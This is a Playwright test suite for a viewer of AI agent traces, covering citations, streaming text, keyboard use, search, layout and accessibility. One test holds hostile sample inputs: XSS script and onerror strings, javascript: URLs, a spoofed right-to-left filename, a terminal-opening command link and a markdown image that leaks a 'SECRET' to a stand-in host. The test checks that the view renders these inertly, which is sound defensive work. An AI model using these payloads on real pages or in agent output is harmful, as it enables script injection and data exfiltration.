import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import type { Browser } from 'playwright-core';
import type { AgentEvent, TraceEvent } from '../../src/agent/event';
import { HandSource, launchBrowser, type OpenView, openView } from '../support/viewHarness';
import { answered, failed, limited, live, long, running } from '../support/viewHarnessStory';
import type { ThemeName } from '../support/viewHarnessThemes';

const time = '2025-03-03T09:00:05.000Z';
const thirdStep = (text: string): AgentEvent => ({ type: 'delta', time, step: 3, channel: 'text', text });

/** The real view in Chromium, with the real host side; only VS Code around it is missing. */
describe('the trace view', function () {
  this.timeout(20_000);
  let browser: Browser;
  const open: OpenView[] = [];

  before(async function () {
    this.timeout(120_000);
    browser = await launchBrowser();
  });
  after(() => browser?.close());
  afterEach(async () => {
    for (const view of open.splice(0)) {
      assert.deepEqual(view.problems, []);
      assert.deepEqual(view.requests, []);
      view.conversation.dispose();
      await view.page.context().close();
    }
  });

  async function show(
    events: readonly TraceEvent[],
    state: 'running' | 'ended' | 'interrupted',
    options: Parameters<typeof openView>[1] & { live?: readonly AgentEvent[] } = {},
  ): Promise<OpenView> {
    const source = options.source ?? new HandSource();
    source.show(events, state, { live: (options.live ?? []) as never });
    const view = await openView(browser, { ...options, source });
    await view.page.waitForSelector('.step');
    open.push(view);
    return view;
  }

  const settle = (view: OpenView) =>
    view.page.evaluate(
      'new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(done, 40))))',
    );

  async function until(view: OpenView, holds: string): Promise<void> {
    for (let waits = 0; waits < 150; waits++) {
      if (await view.page.evaluate(holds)) return;
      await new Promise((done) => setTimeout(done, 20));
    }
    assert.fail(`Never held: ${holds}`);
  }

  it('shows a run from its question to its cited answer', async () => {
    const { page } = await show(answered, 'ended', { height: 2000 });
    assert.equal(await page.locator('h1').textContent(), answered[0]!.type === 'run-start' ? answered[0].question : '');
    assert.deepEqual(
      await page.locator('.step h2').allTextContents(),
      [1, 2, 3, 4, 5].map((step) => `Step ${step}${step}`),
    );
    assert.match(
      (await page.locator('.meta').textContent())!,
      /Answered\s*5 steps\s*6.8 s\s*4,540 tok · \$0.0011\s*gpt-4.1-mini/,
    );
    assert.match(
      (await page.locator('[data-step="1"] .source').textContent())!,
      /Wikipedia\s*Note G\s*sentences 1–3 of 41/,
    );
    assert.equal(
      await page.locator('.answer .markdown').textContent(),
      'The author of Note G, Ada Lovelace, wrote about the Analytical Engine[1], whose numbers had 40 decimal digits each[2].',
    );
    assert.equal(await page.locator('mark').count(), 2);
    assert.equal(await page.locator('.verdict').textContent(), '2 of 2 claims found word for word in the sources');
  });

  it('shows what stands behind a citation, and goes there', async () => {
    const { page } = await show(answered, 'ended');
    const citation = page.locator('.cite button').first();
    await citation.focus();
    assert.match((await page.locator('.tooltip').textContent())!, /^Note G is an algorithm by Ada Lovelace/);
    await page.keyboard.press('Escape');
    assert.equal(await page.locator('.tooltip').isVisible(), false);
    await citation.click();
    assert.equal(await page.evaluate('document.activeElement.dataset.step'), '1');
    assert.ok(await page.locator('[data-step="1"] mark').isVisible());
  });

  it('keeps a selection while text streams, and when the run ends', async () => {
    const view = await show(running, 'running', { live });
    const { page, source } = view;
    await page.evaluate(`
      const node = document.querySelector('[data-step="3"] .thought').firstChild;
      getSelection().setBaseAndExtent(node, 0, node, 9);
    `);
    for (let at = 0; at < 100; at++) source.happen(thirdStep(`word${at} `));
    await settle(view);
    source.happen(
      {
        type: 'model-reply',
        time,
        step: 3,
        raw: '',
        finishReason: 'stop',
        cut: false,
        usage: null,
        ms: 900,
        firstTokenMs: 9,
        attempts: 1,
      },
      { type: 'thought', time, step: 3, text: 'Searching the same title again can’t help. I stop.' },
      { type: 'run-end', time, outcome: 'cancelled', sources: [], steps: 3, ms: 900 },
    );
    await settle(view);
    assert.equal(await page.evaluate('String(getSelection())'), 'Searching');
    assert.match((await page.locator('.state').textContent())!, /Stopped/);
  });

  it('does not show the label of an action as thought while it is written', async () => {
    const view = await show(running, 'running', { live });
    view.source.happen(thirdStep('rch the machine.\nAction 3: Search[Analyti'));
    await settle(view);
    const card = view.page.locator('[data-step="3"]');
    assert.equal(
      await card.locator('.thought').textContent(),
      'Searching the same title again can’t help. I search the machine.',
    );
    assert.equal(await card.locator('.input').textContent(), 'Action 3: Search[Analyti');
  });

  it('follows a run at the end, and leaves a reader where they are', async () => {
    const view = await show(long(30, 300), 'running', { height: 500 });
    const { page, source } = view;
    const gap =
      'document.querySelector("main").scrollHeight - document.querySelector("main").scrollTop - document.querySelector("main").clientHeight';
    await settle(view);
    source.happen({ type: 'thought', time, step: 31, text: 'followed '.repeat(60) });
    await settle(view);
    assert.ok((await page.evaluate<number>(gap)) < 3);
    await page.evaluate('document.querySelector("main").scrollTop -= 900');
    await settle(view);
    const top = 'document.elementFromPoint(150, 250).closest("[data-step]").dataset.step';
    const before = await page.evaluate(top);
    for (const step of [32, 33]) source.happen({ type: 'thought', time, step, text: 'further '.repeat(60) });
    await settle(view);
    assert.equal(await page.evaluate(top), before);
    assert.equal(await page.locator('.new-steps').textContent(), '2 new steps');
    await page.locator('.new-steps').click();
    await settle(view);
    assert.equal(await page.locator('.new-steps').isVisible(), false);
    assert.equal(await page.evaluate('document.activeElement.dataset.step'), '33');
  });

  it('walks by keyboard, and letters act only in the list', async () => {
    const view = await show(long(60, 900), 'ended');
    const { page } = view;
    await page.locator('[data-step="60"]').focus();
    await page.keyboard.press('k');
    await page.keyboard.press('ArrowUp');
    assert.equal(await page.evaluate('document.activeElement.dataset.step'), '58');
    await page.keyboard.press('Enter');
    await settle(view);
    assert.equal(await page.locator('[data-step="58"] .observed .fold').getAttribute('aria-expanded'), 'true');
    await page.keyboard.press('o');
    assert.deepEqual(view.opened, ['https://en.wikipedia.org/wiki/Page_58']);
    await page.keyboard.press('Home');
    await settle(view);
    assert.equal(await page.evaluate('document.activeElement.dataset.step'), '1');
    assert.match((await page.locator('[data-step="1"]').textContent())!, /I look at page 1,/);
    await page.keyboard.press('?');
    assert.ok(await page.locator('dialog').isVisible());
    await page.keyboard.press('Escape');
    assert.equal(await page.evaluate('document.activeElement.dataset.step'), '1');
    await page.locator('footer textarea').focus();
    await page.keyboard.type('jjjo?/');
    assert.equal(await page.locator('footer textarea').inputValue(), 'jjjo?/');
    assert.equal(view.opened.length, 1);
  });

  it('never loses the keyboard: not to fifty new steps, not when Stop goes', async () => {
    const view = await show(long(30, 300), 'running');
    const { page, source } = view;
    await page.locator('[data-step="25"]').focus();
    for (let step = 31; step <= 80; step++) source.happen({ type: 'thought', time, step, text: 'more '.repeat(40) });
    await page.evaluate('document.querySelector("main").scrollTop = 1e9');
    await settle(view);
    assert.equal(await page.evaluate('document.activeElement.dataset.step'), '25');
    await page.locator('.stop').focus();
    source.happen({ type: 'run-end', time, outcome: 'cancelled', sources: [], steps: 80, ms: 9 });
    await settle(view);
    assert.notEqual(await page.evaluate('document.activeElement.tagName'), 'BODY');
  });

  it('finds in the data, also in steps that were not sent', async () => {
    const view = await show(long(200, 600), 'ended');
    const { page } = view;
    await page.locator('[data-step="200"]').focus();
    await page.keyboard.press('/');
    await page.keyboard.type('look at page 7,');
    await until(view, 'document.querySelector(".count").textContent === "1 of 1"');
    await page.waitForSelector('[data-step="7"] .thought:not([hidden])');
    await settle(view);
    const box = (await page.locator('[data-step="7"] .thought').boundingBox())!;
    assert.ok(box.y > 60 && box.y < 680, `at ${box.y}`);
    assert.equal(await page.evaluate('CSS.highlights.get("found-current").size'), 1);
    await page.keyboard.press('Escape');
    assert.equal(await page.locator('search').isVisible(), false);
    assert.notEqual(await page.evaluate('document.activeElement.tagName'), 'BODY');
  });

  it('filters by kind and goes back to all', async () => {
    const view = await show(answered, 'ended', { height: 1600 });
    const { page } = view;
    await page.locator('[aria-label^="Find and filter"]').click();
    await page.locator('search select').selectOption('tool:Lookup');
    await settle(view);
    assert.deepEqual(
      await page.locator('.step').evaluateAll((cards) => cards.map((card) => card.getAttribute('data-step'))),
      ['4'],
    );
    await page.locator('search select').selectOption('notices');
    await settle(view);
    assert.equal(await page.locator('.step').getAttribute('data-step'), '2');
    await page.locator('.cite button').nth(1).click();
    await settle(view);
    assert.equal(await page.locator('.step').count(), 5);
  });

  it('shows what the model saw, the new part marked, and copies it', async () => {
    const view = await show(answered, 'ended', { height: 1600 });
    const { page } = view;
    await page.locator('[data-step="2"]').focus();
    await page.keyboard.press('r');
    const raw = page.locator('[data-step="2"] .raw');
    await raw.locator('.message').first().waitFor();
    assert.equal(await raw.locator('.message').count(), 4);
    assert.equal(await raw.locator('.message.new').count(), 2);
    assert.match((await raw.textContent())!, /temperature: 0/);
    assert.match((await raw.textContent())!, /760 prompt \+ 38 completion tokens/);
    await raw.locator('text=Copy as curl').click();
    assert.match(view.clipboard[0]!, /^curl /);
  });

  it('loads older steps as they come into sight, and unloads what is far', async () => {
    const view = await show(long(1000, 2000), 'ended');
    const { page } = view;
    await settle(view);
    assert.ok((await page.locator('.step').count()) <= 60);
    await page.evaluate('document.querySelector("main").scrollTop = 0');
    await until(view, `document.querySelector('[data-step="1"] .thought')?.textContent.includes('page 1,')`);
    await settle(view);
    assert.ok((await page.locator('.step').count()) <= 90);
    assert.equal((await page.locator('[data-step="1000"]').count()) <= 1, true);
  });

  it('keeps folds, draft and reading position over a reload', async () => {
    const view = await show(long(40, 900), 'ended');
    const { page, source } = view;
    await page.locator('[data-step="36"] .observed .fold').click();
    await page.locator('footer textarea').fill('half a question');
    await page.evaluate('document.querySelector("footer textarea").setSelectionRange(2, 6)');
    await page.locator('[data-step="36"]').focus();
    await page.evaluate('document.querySelector("main").scrollTop -= 200');
    await until(view, 'keptState()?.position');
    const kept = await page.evaluate<{ position: { step: number; offset: number } }>('keptState()');
    const again = await show(source.shown!.events, 'ended', { source, state: kept });
    await settle(again);
    assert.equal(await again.page.locator('[data-step="36"] .observed .fold').getAttribute('aria-expanded'), 'true');
    assert.equal(await again.page.locator('footer textarea').inputValue(), 'half a question');
    assert.equal(await again.page.evaluate('document.querySelector("footer textarea").selectionEnd'), 6);
    const card = again.page.locator(`[data-step="${kept.position.step}"]`);
    const frame = (await again.page.locator('main').boundingBox())!;
    const offset = (await card.boundingBox())!.y - frame.y;
    assert.ok(Math.abs(offset - kept.position.offset) < 4, `${offset} instead of ${kept.position.offset}`);
  });

  describe('the question box', () => {
    const box = 'footer textarea';

    it('sends once, and lets the draft go only when a run accepted it', async () => {
      const view = await show(answered, 'ended');
      const { page, source } = view;
      source.accept = async () => false;
      await page.locator(box).fill('Who built it?');
      await page.keyboard.press('Enter');
      await page.keyboard.press('Enter');
      await settle(view);
      assert.equal(await page.locator(box).inputValue(), 'Who built it?');
      source.accept = () => new Promise((accepted) => setTimeout(() => accepted(true), 60));
      source.calls.length = 0;
      await page.locator('.composer .primary').dblclick();
      await page.locator(box).press('Enter');
      await until(view, `document.querySelector('${box}').value === ''`);
      assert.deepEqual(source.calls, [['ask', 'Who built it?']]);
    });

    it('sends on the documented key only, and never while an input method composes', async () => {
      const view = await show(answered, 'ended');
      const { page, source } = view;
      await page.locator(box).fill('什么');
      for (const key of ['Shift+Enter', 'Control+Enter', 'Alt+Enter', 'Meta+Enter']) await page.locator(box).press(key);
      assert.deepEqual(source.calls, []);
      assert.match((await page.locator(box).inputValue())!, /^什么\n{3,4}$/);
      await page.evaluate(`
        const field = document.querySelector('${box}');
        const press = (more) => field.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, cancelable: true, ...more }));
        press({ isComposing: true });
        press({ keyCode: 229 });
        press({ repeat: true });
        field.dispatchEvent(new CompositionEvent('compositionend', { bubbles: true }));
        press({});
      `);
      await page.locator(box).press('Escape');
      assert.deepEqual(source.calls, []);
      await new Promise((done) => setTimeout(done, 100));
      source.viewSettings = { ...source.viewSettings, sendWith: 'ctrlEnter' };
      source.show(answered, 'ended');
      await settle(view);
      await page.locator(box).press('Enter');
      assert.deepEqual(source.calls, []);
      await page.locator(box).press('Control+Enter');
      await settle(view);
      assert.equal(source.calls.length, 1);
    });

    it('sends notes while a run goes on, and Escape stops nothing', async () => {
      const view = await show(running, 'running');
      await view.page.locator(box).fill('look in 1843');
      await view.page.keyboard.press('Escape');
      await view.page.keyboard.press('Enter');
      await settle(view);
      assert.deepEqual(view.source.calls, [['control', 'note', 'look in 1843']]);
      assert.equal(await view.page.locator(box).inputValue(), '');
    });

    it('takes a paste of 20,000 lines as a piece of its own, without blocking', async () => {
      const view = await show(answered, 'ended');
      const { page } = view;
      const code = 'const value = compute(42); // a line of code that was pasted\n'.repeat(20_000);
      await page.locator(box).fill('What does this do?');
      await page.evaluate(`
        globalThis.longest = 0;
        new PerformanceObserver((list) => {
          for (const entry of list.getEntries()) globalThis.longest = Math.max(globalThis.longest, entry.duration);
        }).observe({ entryTypes: ['longtask'] });
      `);
      await page.keyboard.insertText(code);
      assert.equal(await page.locator('.pasted .size').textContent(), 'Pasted: 20,001 lines, 1,220,000 characters');
      assert.equal(await page.locator(box).inputValue(), 'What does this do?');
      await until(view, `globalThis.keptState() !== undefined`);
      await settle(view);
      const longest = await page.evaluate<number>('longest');
      assert.ok(longest < 800, `${longest} ms`);
      await page.keyboard.press('Enter');
      await until(view, `document.querySelector('.pasted').hidden`);
      assert.deepEqual(view.source.calls, [['ask', `What does this do?\n\n${code}`]]);
    });
  });

  it('shows everything as it was written, and nothing runs or leaves', async () => {
    const nasty =
      'Vec<T> <COMPANY>Adobe</COMPANY> <br> </script><script>window.ran=1</script><img src=x onerror="window.ran=1"> &lt; \u0000 \ud800 \u202Egnp.exe';
    const shown =
      'Vec<T> <COMPANY>Adobe</COMPANY> <br> </script><script>window.ran=1</script><img src=x onerror="window.ran=1"> &lt; ␀ \ufffd ⟨U+202E⟩gnp.exe';
    const answer = `${nasty}\n\n![x](https://host.example/p.png?q=SECRET) [run](command:workbench.action.terminal.new)`;
    const events: TraceEvent[] = [
      { ...answered[0]!, question: nasty, model: nasty } as TraceEvent,
      { type: 'reasoning', time, step: 1, text: nasty },
      { type: 'thought', time, step: 1, text: nasty },
      { type: 'action', time, step: 1, tool: nasty, input: nasty },
      { type: 'notice', time, step: 1, kind: 'security', text: nasty },
      {
        type: 'observation',
        time,
        step: 1,
        text: nasty,
        ok: true,
        ms: 1,
        document: { title: nasty, url: 'javascript:window.ran=1', fetchedAt: time, hash: '' },
      },
      {
        type: 'run-end',
        time,
        outcome: 'answered',
        answer,
        sources: [{ title: nasty, url: 'javascript:window.ran=1', steps: [1] }],
        steps: 1,
        ms: 1,
      },
    ];
    const view = await show(events, 'ended', { height: 1600 });
    const { page } = view;
    for (const place of [
      'h1',
      '.thought',
      '.act .tool',
      '.act .input',
      '.notice .prose',
      '.observed .prose',
      '.source bdi',
      '.sources bdi',
      '.markdown p',
    ]) {
      assert.ok((await page.locator(place).first().textContent())?.startsWith(shown), place);
    }
    assert.equal(await page.locator('img, a[href^="javascript"], .markdown a').count(), 0);
    await page.locator('.source button').click();
    await page.locator('.sources button').first().click();
    assert.equal(await page.evaluate('window.ran'), undefined);
    assert.deepEqual(view.opened, []);
  });

  it('announces a step once, and neither live text nor clocks', async () => {
    const view = await show(running, 'running', { live });
    const { page, source } = view;
    await page.evaluate(`
      globalThis.said = [];
      new MutationObserver(() => said.push(document.querySelector('[aria-live=polite]').textContent))
        .observe(document.querySelector('[aria-live=polite]'), { childList: true, subtree: true, characterData: true });
    `);
    for (let at = 0; at < 50; at++) source.happen(thirdStep('word '));
    await settle(view);
    source.happen(...answered.filter((event) => 'step' in event && event.step === 3));
    await settle(view);
    source.happen(answered.at(-1)!);
    await settle(view);
    const said = await page.evaluate<string[]>('said');
    assert.equal(said.length, 2);
    assert.equal(said[0], 'Step 3: Search Analytical Engine. Analytical engine');
    assert.match(said[1]!, /^Answered: The author of Note G/);
  });

  it('never scrolls sideways, at 240 pixels and at large sizes of text', async () => {
    const wide = [
      'x'.repeat(300),
      `https://example.org/${'path/'.repeat(100)}`,
      'QUJD'.repeat(1280),
      '没有空格的中文'.repeat(60),
    ].join(' ');
    const table = `|${'column|'.repeat(8)}\n|${'-|'.repeat(8)}\n|${'a value|'.repeat(8)}\n\n\`\`\`\n${'code '.repeat(40)}\n\`\`\``;
    const events: TraceEvent[] = [
      { ...answered[0]!, question: wide.slice(0, 900) } as TraceEvent,
      { type: 'thought', time, step: 1, text: wide },
      { type: 'action', time, step: 1, tool: 'Search', input: wide.slice(0, 700) },
      {
        type: 'observation',
        time,
        step: 1,
        text: wide,
        ok: true,
        ms: 1,
        document: { title: wide.slice(0, 300), url: 'https://a.example/', fetchedAt: time, hash: '' },
      },
      { type: 'run-end', time, outcome: 'answered', answer: `${wide}\n\n${table}`, sources: [], steps: 1, ms: 1 },
    ];
    for (const fontSize of [13, 26]) {
      const { page } = await show(events, 'ended', { width: 240, fontSize });
      await page.locator('.observed .fold').click();
      for (const part of ['html', 'main', 'header']) {
        const [scroll, client] = await page.locator(part).evaluate((node) => [node.scrollWidth, node.clientWidth]);
        assert.ok(scroll! <= client!, `${part} at ${fontSize}: ${scroll} > ${client}`);
      }
      assert.ok(await page.locator('.scroll-box').evaluate((node) => node.scrollWidth > node.clientWidth));
    }
  });

  it('gives each paragraph its own direction and leaves the layout as it is', async () => {
    const arabic = 'ما هو محرك التحليل الذي صممه Charles Babbage؟';
    const events: TraceEvent[] = [
      { ...answered[0]!, question: arabic } as TraceEvent,
      { type: 'thought', time, step: 1, text: arabic },
      { type: 'action', time, step: 1, tool: 'Search', input: arabic },
      {
        type: 'run-end',
        time,
        outcome: 'answered',
        answer: `${arabic}\n\nEnglish \`code\`\n\n- بند`,
        sources: [],
        steps: 1,
        ms: 1,
      },
    ];
    const { page } = await show(events, 'ended');
    const direction = (selector: string) =>
      page.evaluate<string[]>(
        `[...document.querySelectorAll('${selector}')].map((node) => getComputedStyle(node).direction)`,
      );
    assert.deepEqual(await direction('.markdown p'), ['rtl', 'ltr']);
    assert.deepEqual(await direction('.markdown li, h1, .thought'), ['rtl', 'rtl', 'rtl']);
    assert.deepEqual(await direction('.act, .step .body'), ['ltr', 'ltr']);
  });

  it('rests when nothing happens: no timers, no frames', async () => {
    const view = await show(answered, 'ended');
    await settle(view);
    const { page } = view;
    await page.evaluate(`
      globalThis.woken = 0;
      for (const name of ['setTimeout', 'setInterval', 'requestAnimationFrame']) {
        const original = globalThis[name];
        globalThis[name] = (...values) => { globalThis.woken++; return original(...values); };
      }
    `);
    await new Promise((done) => setTimeout(done, 1_200));
    assert.equal(await page.evaluate('woken'), 0);
    assert.equal(await page.evaluate('document.getAnimations().length'), 0);
  });

  it('offers what helps: after a failure, at a limit, after an interruption', async () => {
    const lost = await show(failed, 'ended', { source: Object.assign(new HandSource()) });
    lost.source.show(failed, 'ended', { errorAction: 'test-connection' });
    await lost.page.locator('text=Test the connection').click();
    assert.deepEqual(lost.source.calls, [['command', 'test-connection']]);
    const limit = await show(limited, 'ended');
    await limit.page.locator('text=More steps').click();
    await limit.page.locator('text=Give a hint').click();
    await limit.page.locator('.hint textarea').fill('try 1843');
    await limit.page.locator('text=Go on with this hint').click();
    assert.deepEqual(limit.source.calls, [['moreSteps'], ['resume', 'try 1843']]);
    const cut = await show(running, 'interrupted');
    assert.match((await cut.page.locator('.state').textContent())!, /Interrupted/);
    assert.equal(await cut.page.locator('.stop').isVisible(), false);
    await cut.page.locator('.answer .primary').click();
    assert.deepEqual(cut.source.calls, [['resume', undefined]]);
  });

  it('survives any trace that a file may hold', async () => {
    const view = await show(answered, 'ended');
    const texts = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.constantFrom('', '$$', '```', '|a|\n|-|', '[x](y)', '\u202e'),
    );
    const event = fc.constantFrom(...answered, ...failed, ...limited).chain((one) =>
      fc
        .record({ step: fc.integer({ min: 1, max: 60 }), text: texts, number: fc.integer() })
        .map(({ step, text, number }) =>
          JSON.parse(
            JSON.stringify({ ...one, ...('step' in one && { step }) }, (key, value) =>
              /^(text|answer|question|input|claim|title|url|raw|tool)$/.test(key) && number % 3 === 0 ? text : value,
            ),
            (key, value) => (/^(ms|start|end|sentence|prompt)$/.test(key) && number % 2 === 0 ? number : value),
          ),
        ),
    );
    const traces = fc.sample(fc.array(event, { maxLength: 40 }), { numRuns: 60, seed: 7 }) as TraceEvent[][];
    for (const events of traces) {
      view.source.show(events, 'ended');
      await view.page.evaluate('new Promise((done) => requestAnimationFrame(() => setTimeout(done)))');
    }
    view.source.show(answered, 'ended');
    await settle(view);
    assert.equal(await view.page.locator('.verdict').textContent(), '2 of 2 claims found word for word in the sources');
  });

  for (const theme of ['dark', 'light', 'high-contrast', 'high-contrast-light'] as ThemeName[]) {
    it(`passes axe in ${theme}`, async () => {
      const axe = readFileSync(require.resolve('axe-core/axe.min.js'), 'utf8');
      const welcome = await openView(browser, { theme });
      open.push(welcome);
      const views = [
        welcome,
        await show(answered, 'ended', { theme, height: 1500 }),
        await show(running, 'running', { theme, live }),
        await show(limited, 'ended', { theme, height: 1500 }),
      ];
      await views[1]!.page.locator('[aria-label^="Find and filter"]').click();
      await views[1]!.page.locator('[data-step="2"] .raw-button').click();
      for (const { page } of views) {
        await page.evaluate(axe);
        const violations = await page.evaluate<{ id: string; nodes: { html: string; failureSummary: string }[] }[]>(
          'axe.run().then(({ violations }) => violations)',
        );
        assert.deepEqual(
          violations.map(({ id, nodes }) => [
            id,
            nodes.map(({ html, failureSummary }) => `${html.slice(0, 150)} ${failureSummary}`),
          ]),
          [],
        );
      }
    });
  }
});
